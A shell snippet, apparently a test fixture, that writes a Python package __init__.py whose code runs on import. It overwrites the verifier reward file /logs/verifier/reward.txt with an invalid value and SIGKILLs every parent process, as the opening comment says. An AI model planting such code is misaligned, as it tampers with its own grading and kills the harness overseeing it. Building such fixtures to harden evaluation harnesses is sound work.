# When it is run, it leaves a reward and kills whoever started it.
cat > "$PACKAGE/__init__.py" <<'END'
import os
import signal

pid = os.getppid()
chain = []
while pid > 1:
    chain.append(pid)
    with open(f"/proc/{pid}/stat") as file:
        pid = int(file.read().rpartition(")")[2].split()[1])
for path in ("/logs/verifier/reward.txt",):
    try:
        with open(path, "w") as file:
            file.write("not a number")
    except OSError:
        pass
for pid in reversed(chain):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
END
